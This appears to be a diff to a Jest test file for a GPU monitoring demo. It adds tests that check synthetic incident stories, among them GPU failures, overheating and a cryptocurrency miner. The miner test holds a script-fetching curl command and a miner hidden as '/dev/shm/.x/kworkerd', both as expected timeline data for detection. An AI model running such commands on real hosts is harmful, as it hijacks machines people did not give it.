@@ -1,5 +1,5 @@
-import { DAY_MS } from '@gpu-observatory/domain-types';
-import { beforeAll, expect, test } from '@jest/globals';
+import { DAY_MS, HOUR_MS } from '@gpu-observatory/domain-types';
+import { beforeAll, describe, expect, test } from '@jest/globals';
 import { readFile } from 'node:fs/promises';
 import { createInterface } from 'node:readline';
 import { demoNow, demoTenants } from './support/demo-tenants.ts';
@@ -143,6 +143,68 @@ test.each(customers)(
     }
   },
 );
+
+describe.each(customers)('the stories of customer %i', (customer) => {
+  const storyAlert = (title: RegExp) => {
+    const found = alertsOf(customer).filter((alert) => title.test(String(alert['title'])));
+    return found.toSorted((one, other) =>
+      String(one['created_at']) < String(other['created_at']) ? 1 : -1,
+    )[0]!;
+  };
+  const gpusOfHost = (alert: AnyRecord) =>
+    gpusOf(customer).filter(({ inventory }) => inventory['hostname'] === alert['hostname']);
+
+  test('a GPU reports XIDs 63, 92, 48 and 79, with an alert for each, and is then missing', () => {
+    const alert = storyAlert(/^GPU has fallen off the bus$/);
+    const gpu = gpus.get(String(alert['gpu_id']))!;
+    expect(gpu.codes.slice(-4)).toEqual([63, 92, 48, 79]);
+    expect(gpu.healthAt(now)).toBe('missing');
+    const own = alertsOf(customer).filter(
+      ({ gpu_id, type, state }) => gpu_id === alert['gpu_id'] && type === 'gpu_ecc' && state === 'active',
+    );
+    expect(new Set(own.map(({ title }) => title))).toEqual(
+      new Set([
+        'Row remapping pending on NVIDIA ' + String(alert['gpu_model']).replace('NVIDIA ', ''),
+        'Rate of correctable ECC errors is rising',
+        'Uncorrectable ECC error',
+      ]),
+    );
+  });
+
+  test('all GPUs of a host heat up under load, some of them near shutdown', () => {
+    const own = gpusOfHost(storyAlert(/^GPU temperature near shutdown$/));
+    const rises = own.map((gpu) => gpu.temperatureAt(now) - gpu.temperatureAt(now - 2 * HOUR_MS));
+    expect(Math.min(...rises)).toBeGreaterThan(15);
+    const states = own.map((gpu) => gpu.healthAt(now));
+    expect(states).toContain('critical');
+    expect(states).not.toContain('healthy');
+  });
+
+  test('a miner keeps all GPUs of a host busy without a break until a critical alert and after it', () => {
+    const alert = storyAlert(/^Cryptocurrency miner on /);
+    expect(alert['severity']).toBe('critical');
+    for (const gpu of gpusOfHost(alert)) {
+      const busy = gpu.readings.filter(({ at }) => at > now - 5 * HOUR_MS && at <= now);
+      expect(busy.length).toBeGreaterThan(100);
+      expect(Math.min(...busy.map(({ fields }) => Number(fields['utilization_pct'])))).toBeGreaterThan(95);
+    }
+    const commands = timelines.get(String(alert['id']))!.map(({ command_line: command }) => command);
+    expect(commands).toContain('curl -fsSL http://updates.example.com/i.sh');
+    expect(commands.some((command) => String(command).startsWith('/dev/shm/.x/kworkerd'))).toBe(true);
+  });
+
+  test('hosts get a new driver, until one does not come back', () => {
+    const failed = storyAlert(/^NVIDIA kernel module does not load$/);
+    expect(new Set(gpusOfHost(failed).map((gpu) => gpu.healthAt(now)))).toEqual(new Set(['missing']));
+    const upgraded = gpusOfHost(storyAlert(/^Driver upgraded from /));
+    expect(new Set(upgraded.map(({ inventory }) => inventory['driver_version']))).toEqual(
+      new Set(gpusOfHost(failed).map(({ inventory }) => inventory['driver_version'])),
+    );
+    const models = new Set(upgraded.map(({ inventory }) => inventory['model']));
+    const drivers = gpusOf(customer).filter(({ inventory }) => models.has(inventory['model']));
+    expect(new Set(drivers.map(({ inventory }) => inventory['driver_version'])).size).toBe(2);
+  });
+});
 
 test('alert ids are distinct, states and ages follow their distribution, texts have no placeholders', () => {
   expect(alerts.size).toBe(20_000);
